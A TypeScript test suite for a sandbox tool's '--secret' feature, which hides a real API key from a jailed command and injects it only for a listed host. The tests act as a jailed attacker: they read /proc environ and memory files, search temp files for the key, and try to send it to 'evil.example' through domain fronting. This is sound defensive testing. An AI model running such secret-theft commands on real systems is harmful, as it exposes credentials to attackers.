/**
 * --secret, judged from outside: HTTPS servers on the host's loopback stand
 * in for the internet, with certificates of a CA the supervisor trusts
 * through the invoking environment's NODE_EXTRA_CA_CERTS (as a corporate CA
 * would be). The listed host receives the real value; the command, another
 * allowed host and a denied one see only the placeholder or nothing. Runs
 * in whichever layer this machine has (the suite runs again with
 * JAIL_NAMESPACES=off for the fallback).
 */
import * as fs from 'node:fs';
import * as https from 'node:https';
import * as net from 'node:net';
import * as path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { makeCa, type RunCa } from '../../src/egress/ca.js';
import { jailAsync, makeWorld, removeWorld, strictJail, type AsyncRun, type World } from './harness.js';

const REAL = `sk-ant-api03-${'R3aLsEcReT'.repeat(4)}xyz`;

interface Upstream {
  port: number;
  /** Each request: its target and its headers as received. */
  got: Array<{ url: string; headers: string }>;
  connections: number;
  close(): Promise<void>;
}

async function upstream(ca: RunCa): Promise<Upstream> {
  const leaf = await ca.leaf('localhost');
  const u = { port: 0, got: [], connections: 0 } as unknown as Upstream;
  const s = https.createServer({ cert: leaf.cert, key: leaf.key }, (req, res) => {
    u.got.push({ url: req.url ?? '', headers: JSON.stringify(req.headers) });
    res.end('upstream says hi\n');
  });
  s.on('connection', () => u.connections++);
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  u.port = (s.address() as net.AddressInfo).port;
  u.close = () => new Promise<void>((r) => (s.closeAllConnections(), s.close(() => r())));
  return u;
}

let w: World;
let realCa: RunCa;
let otherCa: RunCa;
let env: NodeJS.ProcessEnv;
beforeAll(async () => {
  w = makeWorld('secret-proxy');
  [realCa, otherCa] = [await makeCa(), await makeCa()];
  // The upstreams' CA, in the project (readable inside, for the pinned client).
  fs.writeFileSync(path.join(w.proj, 'real-ca.pem'), realCa.certPem);
  env = { ...w.env, NODE_EXTRA_CA_CERTS: path.join(w.proj, 'real-ca.pem'), API_KEY: REAL };
});
afterAll(() => removeWorld(w));

const run = (args: string[]): Promise<AsyncRun> => jailAsync(w, ['--ro', '.', ...args], { env });
const curl = (...a: string[]) => ['curl', '-sS', '--max-time', '10', ...a];

strictJail.describe('--secret', () => {
  it('the listed host gets the real value in a header and the query; the command sees only the placeholder', async () => {
    const s = await upstream(realCa);
    try {
      const script =
        'echo "env:$API_KEY"; cat /proc/self/environ | tr "\\0" "\\n" | grep "^API_KEY="; grep -r -l -F "$API_KEY" "$TMPDIR" >/dev/null || echo "not in tmp"; ' +
        `curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" -H "x-api-key: $API_KEY" "https://localhost:${s.port}/v1/messages?key=$API_KEY"; ` +
        `cat "$TMPDIR"/*.pem "$TMPDIR"/* 2>/dev/null | grep -c -F "${REAL.slice(20)}" || true`;
      const r = await run(['--secret', `API_KEY@localhost:${s.port}`, '--', 'sh', '-c', script]);
      expect(r.stderr).toBe('');
      const placeholder = /env:(\S+)/.exec(r.stdout)?.[1] ?? '';
      expect(placeholder).toMatch(/^sk-ant-api03-/);
      expect(placeholder).toHaveLength(REAL.length);
      expect(placeholder).not.toBe(REAL);
      expect(r.stdout).toContain(`API_KEY=${placeholder}`);
      expect(r.stdout).toContain('upstream says hi');
      expect(r.stdout).not.toContain(REAL);
      expect(r.status).toBe(0);
      expect(s.got).toHaveLength(1);
      expect(s.got[0]!.url).toBe(`/v1/messages?key=${REAL}`);
      const h = JSON.parse(s.got[0]!.headers) as Record<string, string>;
      expect(h.authorization).toBe(`Bearer ${REAL}`);
      expect(h['x-api-key']).toBe(REAL);
      expect(s.got[0]!.headers).not.toContain(placeholder);
    } finally {
      await s.close();
    }
  });

  it("the supervisor's environment and memory, which hold the real value, stay out of reach (its parent's /proc files)", async () => {
    const s = await upstream(realCa);
    try {
      // In the fallback the parent is jail's supervisor itself; in the
      // namespace layer the init, a copy of it. Landlock keeps ptrace-like
      // access to outside processes closed, the init is not dumpable, and no
      // capability is left to override either.
      const script = 'for f in environ cmdline mem maps; do cat /proc/$PPID/$f 2>&1 | tr "\\0" "\\n" | head -c 200000; done; grep -a -c -F "$API_KEY" /proc/$PPID/environ 2>&1 || true';
      const r = await run(['--secret', `API_KEY@localhost:${s.port}`, '--', 'sh', '-c', script]);
      expect(r.stdout).not.toContain(REAL);
      expect(r.stdout + r.stderr).not.toContain(REAL.slice(16));
      // With its capabilities, root could read them: refused before anything runs.
      const kept = await run(['--keep-caps', '--secret', `API_KEY@localhost:${s.port}`, '--', 'sh', '-c', script]);
      expect([kept.status, kept.stdout]).toEqual([125, '']);
      expect(kept.stderr).toContain('with --keep-caps: a command that keeps its capabilities can read');
    } finally {
      await s.close();
    }
  });

  it('a program that ignores proxy variables (Node 20 fetch) gets the value put in too, or is kept out', async () => {
    const s = await upstream(realCa);
    try {
      const js = `fetch('https://localhost:${s.port}/f', { headers: { authorization: 'Bearer ' + process.env.API_KEY } }).then((r) => r.text()).then((t) => console.log('ok', t.trim()), (e) => console.log('failed', e.cause?.code))`;
      const r = await run(['--secret', `API_KEY@localhost:${s.port}`, '--', 'node', '-e', js]);
      expect(r.stdout).not.toContain(REAL);
      // Namespace layer: through jail's transparent listener; fallback: the
      // connect to a port not granted fails, and nothing arrives.
      if (r.stdout.startsWith('ok')) expect(s.got.map((g) => JSON.parse(g.headers).authorization)).toEqual([`Bearer ${REAL}`]);
      else expect(s.connections).toBe(0);
    } finally {
      await s.close();
    }
  });

  it('another allowed host gets only the placeholder, through a raw tunnel with its own certificate', async () => {
    const [listed, other] = [await upstream(realCa), await upstream(realCa)];
    try {
      const r = await run([
        '--secret', `API_KEY@localhost:${listed.port}`, '--allow-host', `localhost:${other.port}`, '--',
        'sh', '-c', `echo "env:$API_KEY"; curl -sS --max-time 10 --cacert real-ca.pem -H "Authorization: Bearer $API_KEY" "https://localhost:${other.port}/x?key=$API_KEY"`,
      ]);
      const placeholder = /env:(\S+)/.exec(r.stdout)?.[1] ?? '';
      expect(r.stdout).toContain('upstream says hi'); // verified with the real CA alone: no jail certificate
      expect(other.got).toHaveLength(1);
      expect(other.got[0]!.url).toBe(`/x?key=${placeholder}`);
      expect(other.got[0]!.headers).toContain(`Bearer ${placeholder}`);
      expect(JSON.stringify(other.got)).not.toContain(REAL);
      expect(listed.connections).toBe(0);
    } finally {
      await Promise.all([listed.close(), other.close()]);
    }
  });

  it('a request that names another host (Host header, absolute-form target: domain fronting on a shared CDN) gets no real value', async () => {
    const s = await upstream(realCa);
    try {
      // A CDN routes by the Host header (or an absolute-form target), not
      // by the TLS name: these would carry the key to evil.example's origin.
      const script =
        `curl -sS --max-time 10 -H "Host: evil.example" -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/fronted?key=$API_KEY"; echo; ` +
        `curl -sS --max-time 10 --request-target "https://evil.example/abs?key=$API_KEY" -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/"; echo; ` +
        `curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" "https://localhost:${s.port}/fine"`;
      const r = await run(['--secret', `API_KEY@localhost:${s.port}`, '--', 'sh', '-c', script]);
      expect(printedAll(r)).not.toContain(REAL);
      // Whatever reached the upstream named the listed host, and only that carries the value.
      for (const g of s.got) {
        const h = JSON.parse(g.headers) as Record<string, string>;
        if (JSON.stringify(g).includes(REAL)) expect([h.host, g.url.startsWith('/')]).toEqual([`localhost:${s.port}`, true]);
      }
      expect(s.got.filter((g) => JSON.stringify(g).includes('evil.example'))).toEqual([]);
      expect(s.got.map((g) => g.url)).toEqual([`/fine`]);
      expect(r.stdout.match(/is not sent on it/g)).toHaveLength(2);
      expect(r.stdout).toContain('upstream says hi');
    } finally {
      await s.close();
    }
  });

  it('plain HTTP to a listed HTTPS host carries only the placeholder: the value never crosses the wire in clear text', async () => {
    // What arrives at the host's port, as anyone on the path would read it.
    const seen: string[] = [];
    const wire = net.createServer((c) => {
      c.on('data', (d) => seen.push(String(d)));
      c.on('error', () => {});
      setTimeout(() => c.end('HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n'), 100);
    });
    await new Promise<void>((r) => wire.listen(0, '127.0.0.1', r));
    const port = (wire.address() as net.AddressInfo).port;
    try {
      const r = await run([
        '--secret', `API_KEY@localhost:${port}`, '--',
        'sh', '-c', `curl -sS --max-time 10 --proxy "$HTTP_PROXY" -H "Authorization: Bearer $API_KEY" "http://localhost:${port}/clear?key=$API_KEY"; echo "env:$API_KEY"`,
      ]);
      const placeholder = /env:(\S+)/.exec(r.stdout)?.[1] ?? '';
      expect(seen.join('')).not.toContain(REAL);
      expect(seen.join('')).toContain(`Bearer ${placeholder}`);
    } finally {
      await new Promise<void>((r) => wire.close(() => r()));
    }
  });

  it('a denied host receives nothing', async () => {
    const [listed, denied] = [await upstream(realCa), await upstream(realCa)];
    try {
      const r = await run(['--secret', `API_KEY@localhost:${listed.port}`, '--', ...curl('-H', 'Authorization: Bearer x', `https://localhost:${denied.port}/`)]);
      expect(r.status).not.toBe(0);
      expect(denied.connections).toBe(0);
      expect(r.stderr).toContain(`jail: blocked 1 connection to localhost:${denied.port}`);
    } finally {
      await Promise.all([listed.close(), denied.close()]);
    }
  });

  it("a client that pins the real certificate fails, and the summary names the host", async () => {
    const s = await upstream(realCa);
    try {
      const r = await run(['--secret', `API_KEY@localhost:${s.port}`, '--', 'sh', '-c', `curl -sS --max-time 10 --cacert real-ca.pem -H "Authorization: Bearer $API_KEY" https://localhost:${s.port}/pinned`]);
      expect(r.status).not.toBe(0);
      expect(s.got).toEqual([]);
      expect(r.stderr).toContain(`jail: localhost:${s.port} refused jail's certificate (pinned?): --secret API_KEY cannot be used with it`);
    } finally {
      await s.close();
    }
  });

  it('an upstream whose certificate does not verify gets no request, and no secret', async () => {
    const s = await upstream(otherCa);
    try {
      const r = await run(['--secret', `API_KEY@localhost:${s.port}`, '--', 'sh', '-c', `curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" https://localhost:${s.port}/`]);
      expect(s.got).toEqual([]);
      expect(r.stdout).toContain("certificate did not verify");
      expect(r.stderr).toContain(`jail: localhost:${s.port}'s certificate did not verify`);
      expect(printedAll(r)).not.toContain(REAL);
    } finally {
      await s.close();
    }
  });

  it('refuses a --secret whose variable is not set (exit 125)', async () => {
    const r = await jailAsync(w, ['--ro', '.', '--secret', 'NOPE_KEY@api.example.com', '--', 'true'], { env });
    expect(r.status).toBe(125);
    expect(r.stderr).toContain('NOPE_KEY is not set in this environment');
  });
});

const printedAll = (r: AsyncRun) => r.stdout + r.stderr;
